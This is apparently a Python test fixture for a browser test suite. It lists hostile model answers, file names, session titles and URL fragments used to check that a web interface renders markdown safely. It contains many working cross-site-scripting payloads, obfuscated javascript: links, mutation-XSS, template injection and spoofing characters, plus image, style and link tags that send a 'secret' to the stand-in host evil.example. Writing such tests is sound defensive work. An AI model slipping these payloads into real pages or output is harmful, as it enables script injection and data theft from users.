"""Hostile texts: they try to run a script, load a resource, link to another site or imitate other text.

`EVIL` is a host that no page may request; `MARK` is the call of an injected script.
"""

from __future__ import annotations

from collections.abc import Mapping

from tests.server.browser.page_monitor import MARK

EVIL = "evil.example"
RUN = MARK.replace(" ", "")
SECRET = f"https://{EVIL}/steal?secret=varnmoor"

ANSWERS: Mapping[str, str] = {
    "an image": f"![chart]({SECRET})",
    "an image in a sentence": f"See ![]({SECRET}) and ![a]( <{SECRET}> ).",
    "an image by reference": f"![chart][1x]\n\n[1x]: {SECRET}",
    "a link by reference": f"[press][2x]\n\n[2x]: javascript:{RUN}",
    "an image in a link": f"[![x]({SECRET})](javascript:{RUN})",
    "a link in a link": f"[a [b](https://{EVIL}/b) c](https://{EVIL}/c)",
    "a script address": f"[press](javascript:{RUN})",
    "a script address in odd letters": f"[press](JaVaScRiPt:{RUN})",
    "a script address with entities": f"[press](&#106;avascript:{RUN}) [press](javascript&colon;{RUN})",
    "a script address with a tab": f"[press](java\tscript:{RUN}) [press](java\nscript:{RUN})",
    "a script address with controls": f"[press](\x01javascript:{RUN}) [press](jav\x00ascript:{RUN})",
    "a script address in brackets": f"<javascript:{RUN}> [press](<javascript:{RUN}>)",
    "a script address for VBScript": f"[press](vbscript:{RUN})",
    "a data address": f"[press](data:text/html,<script>{RUN}</script>) ![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "an address of a file": "[press](file:///etc/passwd) [press](blob:null/1) [press](about:blank)",
    "an address without a scheme": f"[press](//{EVIL}/x) [press](/session/end) [press](status) [press](#/status)",
    "a bare host": f"www.{EVIL} and {EVIL}/x",
    "a script": f"<script>{RUN}</script>",
    "an image tag": f'<img src="x" onerror="{RUN}"><img src={SECRET}>',
    "a picture in SVG": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x" /></svg>',
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="{SECRET}"></object>',
    "a changing tree": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "a style": f"<style>@import url({SECRET}); * {{ background: url({SECRET}) }}</style>",
    "a link element": f'<link rel="stylesheet" href="{SECRET}"><link rel="prefetch" href="{SECRET}">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={SECRET}"><base href="https://{EVIL}/">',
    "a form": f'<form action="{SECRET}"><button formaction="javascript:{RUN}">ok</button>'
    f"<input autofocus onfocus={RUN}>",
    "a ping": f'<a href="https://{EVIL}" ping="{SECRET}">x</a> <video poster={SECRET} src={SECRET} autoplay></video>',
    "an attribute that breaks out": f'[x](https://{EVIL}/"onmouseover="{RUN}) [x](https://{EVIL} "a" onclick="{RUN}")',
    "an autolink that breaks out": f'<https://{EVIL}/"onmouseover="{RUN}"> https://{EVIL}/"onclick={RUN}',
    "a code block that breaks out": f'```"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
    "inline code that breaks out": f"`</code><script>{RUN}</script>`",
    "a table": f"| <script>{RUN}</script> | ![x]({SECRET}) |\n| --- | --- |\n| <img src=x onerror={RUN}> | b |",
    "a heading and a list": f"# <img src=x onerror={RUN}>\n\n- <svg onload={RUN}>\n  > ![x]({SECRET})\n\n1. <b>b</b>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "a template": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    "a host behind a user name": f"[your bank](https://bank.example@{EVIL}/login)",
    "a host of look-alike letters": "[bank](https://b\u0430nk.example/)",
    "a text that runs backwards": f"[\u202emoc.knab](https://{EVIL}/) \u2066hidden\u2069",
    "characters that are not seen": "safe\U000e0041\U000e0042 te\x07xt",
    "a number that is no citation": f"[1](https://{EVIL}/1) [999] [0]",
    "a mail with a body": f"[write](mailto:a@{EVIL}?subject=x&body=secret) <mailto:b@{EVIL}>",
    "a deep nest": ">" * 3000 + " deep " + "[" * 3000 + "*" * 3001 + "`" * 3001 + "- " * 2000,
}
"""Answers of a model, by attack."""

FILES: Mapping[str, str] = {
    f"<img src=x onerror={RUN}>.md": f"# <script>{RUN}</script>\n\nThe kraken sleeps. <img src=x onerror={RUN}>\n",
    f'kraken" onmouseover="{RUN}" x=".md': f'# " onclick="{RUN}\n\nThe kraken eats ![fish]({SECRET}) only.\n',
    f"javascript:{RUN.replace('|', '')}.txt": f"[kraken](javascript:{RUN}) and <svg onload={RUN}>\n",
    "annex\u202efdp.txt": f"The kraken \u202eis not seen\u202c here. <iframe src={SECRET}></iframe>\n",
    "&lt;b&gt;kraken&lt;&#47;b&gt;.md": f"# [kraken]({SECRET})\n\nThe kraken table: </span><script>{RUN}</script>\n",
}
"""File name -> text of documents."""

TITLES = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"[x](javascript:{RUN})",
    "\u202eesrever",
    f"<svg/onload={RUN}>" * 5,
)
"""Titles of sessions."""

ADDRESSES = (
    f"#/search?q=%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"#/search?q=kraken&mode=%22%3E%3Cscript%3E{RUN}%3C/script%3E&k=%22onfocus%3D",
    f"#/s/%3Cscript%3E{RUN}%3C%2Fscript%3E",
    "#/s/..%2F..%2Fstatus",
    f"#javascript:{RUN}",
    "#/s/%E0%A4%A",
)
"""Fragments of the URL of the page."""
